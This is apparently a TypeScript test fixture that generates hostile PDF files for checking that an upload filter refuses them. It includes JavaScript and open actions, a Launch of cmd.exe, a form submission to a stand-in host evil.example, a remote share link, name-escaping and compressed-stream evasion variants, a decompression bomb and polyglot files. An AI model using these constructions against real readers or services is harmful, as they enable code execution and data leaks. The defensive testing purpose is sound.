// Documents that were made to do harm when they are opened.
import { deflateSync } from 'node:zlib'

/** `refused`; `clean`: the picture without anything else; `either`: damaged in a way that a decoder may bear. */
export type Fate = 'refused' | 'clean' | 'either'
export interface HostileFile {
  readonly name: string
  readonly bytes: Uint8Array
  readonly fate: Fate
}

/** Stands in all that must not be in a decoded picture. */
export const MARKER = 'HOSTILE-MARKER-7f3a'
export const SCRIPT = `<script>/*${MARKER}*/alert(1)</script>`

export const text = (value: string) => Buffer.from(value, 'latin1')

export const ZIP = Buffer.concat([
  text('PK\x03\x04'),
  Buffer.alloc(26),
  text(`${MARKER}.txt`),
  text('PK\x05\x06'),
  Buffer.alloc(18),
])

/** A document of one empty page, with more objects. */
export function passivePdf(more = '', trailer = ''): Buffer {
  const body = [
    '%PDF-1.7',
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
    more,
  ].join('\n')
  return text(`${body}\ntrailer << /Size 9 /Root 1 0 R ${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`)
}

const stream = (dictionary: string, data: Uint8Array) =>
  `8 0 obj << ${dictionary} /Length ${data.byteLength} >> stream\n${Buffer.from(data).toString('latin1')}\nendstream endobj`

/** Objects in a compressed stream. */
const inObjectStream = (objects: string) =>
  stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, deflateSync(`4 0 ${objects}`))

/** Documents that do more than show their pages, for places that take documents. */
export function hostileDocuments(): HostileFile[] {
  const acts: Record<string, string> = {
    script: `<< /S /JavaScript /JS (app.alert\\('${MARKER}'\\)) >>`,
    'script in a stream': '<< /S /JavaScript /JS 9 0 R >>',
    'opening action': '<< /Type /Catalog /OpenAction << /S /JavaScript /JS 9 0 R >> >>',
    'additional actions': '<< /Type /Page /AA << /O << /S /Launch /F (x) >> >> >>',
    program: '<< /S /Launch /F (cmd.exe) >>',
    attachment: '<< /Type /Filespec /EF << /F 6 0 R >> >> /EmbeddedFile',
    attachments: '<< /Names << /EmbeddedFiles 5 0 R >> >>',
    'rich media': '<< /Subtype /RichMedia >>',
    'form that computes': '<< /AcroForm << /XFA 5 0 R >> >>',
    'form that is sent': '<< /S /SubmitForm /F (http://evil.example) >>',
    'form that is filled': '<< /S /ImportData /F (x) >>',
    'other document': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>',
    'embedded document': '<< /S /GoToE >>',
    sound: '<< /S /Sound >>',
    movie: '<< /S /Movie >>',
    rendition: '<< /S /Rendition >>',
    model: '<< /Type /3D /OnInstantiate 5 0 R >>',
  }
  const escaped = (object: string) =>
    object.replace(
      /\/(?!S\b|F\b|O\b)([A-Za-z])(\w)/g,
      (_, one: string, two: string) => `/${one}#${two.charCodeAt(0).toString(16)}`,
    )
  const ways: Record<string, (object: string) => Buffer> = {
    plain: (object) => passivePdf(`5 0 obj ${object} endobj`),
    'with escaped names': (object) => passivePdf(`5 0 obj ${escaped(object)} endobj`),
    'in a stream of objects': (object) => passivePdf(inObjectStream(object)),
    'escaped in a stream': (object) => passivePdf(inObjectStream(escaped(object))),
  }
  const active = Object.entries(ways).flatMap(([way, make]) =>
    Object.entries(acts).map(([act, object]): [string, Buffer] => [`${act}, ${way}`, make(object)]),
  )
  const good = passivePdf()
  const more: [string, Buffer][] = [
    ['encrypted', passivePdf('', '/Encrypt 7 0 R')],
    [
      'bomb in a stream of objects',
      passivePdf(stream('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(100_000_000)))),
    ],
    ['stream of objects with another filter', passivePdf(stream('/Type /ObjStm /Filter /LZWDecode', text('x')))],
    [
      'stream of objects with two filters',
      passivePdf(stream('/Type /ObjStm /Filter [/ASCIIHexDecode /LZWDecode]', text('x'))),
    ],
    ['stream of objects that is damaged', passivePdf(stream('/Type /ObjStm /Filter /FlateDecode', text('xxxx')))],
    [
      'stream of objects with a predictor',
      passivePdf(stream('/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>', deflateSync('x'))),
    ],
    ['truncated', good.subarray(0, good.byteLength - 20)],
    ['signature only', text('%PDF-1.7')],
    ['and zip', Buffer.concat([good, ZIP, Buffer.alloc(2000)])],
    ['after html', Buffer.concat([text(SCRIPT), good])],
  ]
  return [...active, ...more].map(([name, bytes]) => ({ name: `document: ${name}`, bytes, fate: 'refused' }))
}
